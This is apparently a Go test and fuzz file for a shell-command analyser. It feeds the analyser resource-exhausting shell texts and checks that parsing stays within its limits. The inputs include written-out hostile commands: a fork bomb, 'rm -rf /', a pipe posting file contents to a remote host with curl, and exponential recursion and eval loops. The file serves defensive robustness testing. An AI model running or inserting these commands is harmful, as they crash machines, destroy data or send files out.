package shell

import (
	"context"
	"encoding/json"
	"runtime"
	"strings"
	"testing"
	"time"

	"regent/facts"
)

// hostile are texts that try to cost more than they say.
func hostile() map[string]string {
	rep := strings.Repeat
	full := func(s string) string { return rep(s, (64<<10)/len(s)) }
	return map[string]string{
		"subshells":        full("( "),
		"deep directories": full("cd a;"),
		"copied streams":   "ls" + rep(" | tee >(cat)", 2000),
		"many posts":       "cat" + rep(" a", 8000) + rep(" | curl -d @- http://x.y", 1500),
		"files to files":   rep("cat x y >> z; cat z;", 3000),
		"values on values": "x=$(ls)" + rep("; x=$x$(cat $x)", 1500),
		"deep cwd":         rep("cd a;", 800) + "cat " + rep("x ", 10000),
		"deep commands":    rep("cd a;", 800) + rep("ls;", 9000),
		"deep operands":    "cat " + rep(rep("a/", 1000)+"x ", 30),
		"deep redirects":   rep("cd a;", 500) + rep("ls>x;", 8000),
		"closed":           rep("( ", 16000) + "ls" + rep(" )", 16000),
		"substitutions":    rep("$(", 20000) + "ls" + rep(")", 20000),
		"backquotes":       full("`"),
		"quoted nesting":   rep(`"$(echo `, 5000) + rep(`)"`, 5000),
		"braces":           "echo " + rep("{a,b}", 10000),
		"brace sequence":   "echo {1..99999999999}",
		"sequences":        "echo " + rep("{1..1000}", 10),
		"open braces":      "echo " + rep("{", 60000),
		"nested braces":    "echo " + rep("{a,", 15000) + rep("}", 15000),
		"arithmetic":       "echo $((" + rep("(", 20000) + "1" + rep(")", 20000) + "))",
		"power":            "echo $((9**9**9**9))",
		"sum":              "echo $((" + rep("1+", 30000) + "1))",
		"self variable":    `x=x; echo $((x)); y=z; z=y; echo $((y))`,
		"arith text":       `a='a[a]'; echo $((a)); b='b+b'; echo $((b))`,
		"doubling":         "x=aaaaaaaaaaaaaaaa\n" + rep("x=$x$x$x$x$x$x$x$x\n", 2000) + "echo $x",
		"doubling array":   "x=(a a a a)\n" + rep("x=(\"${x[@]}\" \"${x[@]}\" \"${x[@]}\")\n", 500) + "echo ${x[@]}",
		"fork bomb":        ":(){ :|:& };:",
		"recursion":        "f(){ f; f; f; }; f",
		"recursion args":   "f(){ f $1x; f $1y; }; f a",
		"mutual":           "f(){ g a; g b; }; g(){ f c; f d; }; f",
		"eval loop":        `x='eval "$x$x"'; eval "$x"`,
		"eval growth":      `x='x="$x$x"; eval "$x"'; eval "$x"`,
		"commands":         rep("ls\n", 10000),
		"many commands":    full("a;"),
		"pipes":            "ls" + rep("|ls", 20000),
		"ands":             "ls" + rep("&&ls", 15000),
		"loops":            rep("for a in 1 2 3 4 5 6 7 8 9; do ", 12) + "ls" + rep("; done", 12),
		"while nest":       rep("while a; do x=$x$RANDOM; ", 200) + "ls" + rep("; done", 200),
		"if nest":          rep("if a; then ", 4000) + "ls" + rep("; fi", 4000),
		"if words":         full("if "),
		"case nest":        rep("case $x in a) ", 3000) + "ls" + rep(" ;; esac", 3000),
		"counting":         "for ((i=0; i<100000000; i++)); do for ((j=0; j<100000000; j++)); do ls $i; done; done",
		"while counting":   "i=0; while ((i<100000000)); do ls $i; ((i++)); done",
		"heredocs":         rep("cat <<A\n", 7000),
		"heredoc nest":     rep("cat <<A\n$(", 3000),
		"alternatives":     rep("if a; then x$RANDOM=1; fi; ", 10) + rep("if a; then x=1$x; else x=2$x; fi\n", 500) + "ls $x",
		"default words":    "ls " + rep("${a:-b} ", 8000),
		"default nest":     "ls " + rep("${a:-", 12000) + rep("}", 12000),
		"patterns":         "x=" + rep("a", 30000) + "; ls ${x//*a*a*a*a*a*b/} ${x##*a*a*a*a*b}",
		"replace":          "x=" + rep("a", 30000) + "; ls ${x//a/" + rep("b", 30000) + "}",
		"trap":             `trap 'trap "trap x EXIT" EXIT; ls' EXIT`,
		"alias":            "shopt -s expand_aliases\nalias a='b;b' b='c;c' c='a;a'\na\n",
		"alias growth":     "alias a='a1 a1' \n" + rep("alias x='ls; x '\nx x x x\n", 400),
		"functions":        rep("f(){ ls; }; f; ", 4000),
		"prefix":           rep("sudo ", 13000) + "ls",
		"env":              rep("env ", 16000) + "ls",
		"sh -c":            quoteNest(12),
		"xargs":            "printf '%s\\n' " + rep("a ", 20000) + "| xargs -n1 sh -c 'ls {}'",
		"find":             "find . " + rep("-exec sh -c 'ls {}' \\; ", 2500),
		"globs":            "ls " + rep("*", 60000),
		"bracket":          "ls " + rep("[", 60000),
		"tildes":           full("~ "),
		"dots":             "cd " + rep("../", 20000) + "; ls " + rep("../", 20000),
		"quotes":           full(`'"`),
		"invalid":          rep("\xff\xfe", 30000),
		"nul":              rep("a\x00b;", 10000),
		"escapes":          "ls $'" + rep(`\x41`, 15000) + "'",
		"read lines":       "printf '%s\\n' " + rep("a ", 10000) + "| while read x; do ls $x; done",
		"variables":        rep("a$RANDOM=1;", 5000),
		"python":           "python3 -c '" + rep("run(", 15000) + "'",
		"awk":              "awk '" + rep(`system("ls");`, 4000) + "'",
		"coproc":           full("coproc "),
		"time":             full("time "),
		"negation":         full("! "),
		"redirects":        "ls " + rep(">a", 25000),
		"arrays":           "x[" + rep("x[", 15000) + "1" + rep("]", 15000) + "]=1",
		"process":          rep("<(", 20000) + rep(")", 20000),
		"assignments":      rep("a=b ", 15000) + "ls",
		"test":             "[[ " + rep("( ", 15000) + "a" + rep(" )", 15000) + " ]]",
		"test nots":        "[[ " + rep("! ", 20000) + "a ]]",
		"crypt":            full("$(<"),
		"indirect":         "a=b b=c c=a; ls ${!a} ${!b}; declare -n r=r; ls $r; declare -n p=q q=p; ls $p",
		"select functions": rep("f(){ g(){ ", 3000),
	}
}

func quoteNest(n int) string {
	s := "ls"
	for range n {
		s = "sh -c '" + strings.ReplaceAll(s, "'", `'\''`) + "'"
		if len(s) > 60<<10 {
			break
		}
	}
	return s
}

// TestHostileTexts: texts of up to 64 KiB end within bounds; when a bound was
// reached the facts say that they are incomplete.
func TestHostileTexts(t *testing.T) {
	x := newExtractor(t, caseFS(), nil)
	for name, text := range hostile() {
		t.Run(name, func(t *testing.T) {
			if len(text) > 1<<17 {
				t.Fatalf("text of %d bytes", len(text))
			}
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			in := &facts.Input{Workspace: caseWorkspace}
			if r := x.start(context.Background(), in, text, "bash"); r.panicked != nil {
				t.Errorf("panic: %v", r.panicked)
			}
			runtime.ReadMemStats(&after)
			t.Logf("%d bytes: %v, %d MiB allocated, %d commands, complete %v %s", len(text), time.Since(start).Round(time.Millisecond),
				(after.TotalAlloc-before.TotalAlloc)>>20, len(in.Commands), in.Text.Complete, in.Text.Error)
			if n := after.TotalAlloc - before.TotalAlloc; n > 2<<30 {
				t.Errorf("allocated %d MiB", n>>20)
			}
			if len(in.Commands) > DefaultLimits.Commands {
				t.Errorf("%d commands", len(in.Commands))
			}
			if in.Text.Complete && len(in.Commands) == 0 && strings.Contains(text, "ls") {
				t.Error("said to be complete without a command")
			}
			if len(in.Text.Tags.Truncated) > 0 && in.Text.Complete {
				t.Error("truncated and complete")
			}
			if b, err := json.Marshal(in); err != nil || len(b) > 96<<20 {
				t.Errorf("facts of %d MiB, %v", len(b)>>20, err)
			}
			if in.Text.Complete != (in.Text.Error == "") {
				t.Errorf("complete %v with error %q", in.Text.Complete, in.Text.Error)
			}
		})
	}
}

// TestBounds: beyond each limit the facts are incomplete and say where.
func TestBounds(t *testing.T) {
	for _, c := range []struct {
		name, text, err string
		limits          Limits
	}{
		{"commands", strings.Repeat("ls;", 20), "many", Limits{Commands: 10}},
		{"facts", "rm " + strings.Repeat("a ", 30), "many", Limits{Facts: 20}},
		{"endpoints", "curl " + strings.Repeat("http://x.example ", 30), "many", Limits{Facts: 20}},
		{"steps", "while :; do x=$x; done; ls", "steps", Limits{Steps: 10}},
		{"depth", "((((ls))))\n" + strings.Repeat("( ", 9) + "ls" + strings.Repeat(" )", 9), "depth", Limits{Depth: 5}},
		{"words", "echo {1..100}", "steps", Limits{Words: 50}},
		{"size", "ls\nrm -rf /\n", "size", Limits{Text: 5}},
		{"bytes", "x=aaaaaaaaaaaaaaaa; x=$x$x$x$x; x=$x$x$x$x; ls $x$x$x$x", "steps", Limits{Bytes: 1000}},
	} {
		t.Run(c.name, func(t *testing.T) {
			x := newExtractor(t, caseFS(), func(cfg *Config) { cfg.Limits = c.limits })
			in := extract(t, x, c.text)
			if in.Text.Complete || in.Text.Error != c.err {
				t.Errorf("complete %v, error %q, want %q", in.Text.Complete, in.Text.Error, c.err)
			}
			if len(in.Text.Tags.Truncated) == 0 {
				t.Error("no truncated tag")
			}
		})
	}
	x := newExtractor(t, caseFS(), nil)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	in := &facts.Input{Workspace: caseWorkspace}
	if err := x.Extract(ctx, in, strings.Repeat("ls\n", 2000)); err != nil || in.Text.Complete {
		t.Errorf("a cancelled call: %v, complete %v", err, in.Text.Complete)
	}
}

func FuzzExtract(f *testing.F) {
	for _, s := range handwritten {
		f.Add(s)
	}
	for _, s := range hostile() {
		if len(s) < 4096 {
			f.Add(s)
		}
	}
	for _, c := range goldenTexts {
		f.Add(c)
	}
	x := newExtractor(f, caseFS(), func(c *Config) { c.Limits = Limits{Steps: 20_000, Commands: 1000, Words: 10_000, Bytes: 1 << 20} })
	f.Fuzz(func(t *testing.T, text string) {
		for _, d := range []string{"bash", "sh", "zsh"} {
			in := &facts.Input{Workspace: caseWorkspace}
			if r := x.start(context.Background(), in, text, d); r.panicked != nil {
				t.Fatalf("panic: %v", r.panicked)
			}
			checkShape(t, in)
		}
	})
}

// checkShape asserts what every document promises.
func checkShape(t *testing.T, in *facts.Input) {
	t.Helper()
	n := len(in.Commands)
	for i, c := range in.Commands {
		if c.Index != i {
			t.Fatalf("command %d has index %d", i, c.Index)
		}
		if c.Via == nil || c.Options == nil || c.Operands == nil || c.FedBy == nil || c.Feeds == nil || c.Subcommand == nil ||
			c.Assignments == nil || c.Code == nil || c.ProgramFile.Classes == nil {
			t.Fatalf("command %d lacks a list: %+v", i, c)
		}
		if len(c.Raw) > 200 {
			t.Fatalf("raw of %d bytes", len(c.Raw))
		}
	}
	for _, a := range in.Accesses {
		if a.Command < -1 || a.Command >= n || len(a.Raw) > 256 {
			t.Fatalf("access %+v", a)
		}
	}
	for _, e := range in.Endpoints {
		if e.Command < -1 || e.Command >= n || e.Classes == nil || e.Sends == nil {
			t.Fatalf("endpoint %+v", e)
		}
		for _, s := range e.Sends {
			if s.Topic == "accesses" && (s.Index < 0 || s.Index >= len(in.Accesses)) {
				t.Fatalf("endpoint sends %+v", s)
			}
		}
	}
	if in.Text.Complete != (in.Text.Error == "") {
		t.Fatalf("complete %v, error %q", in.Text.Complete, in.Text.Error)
	}
}
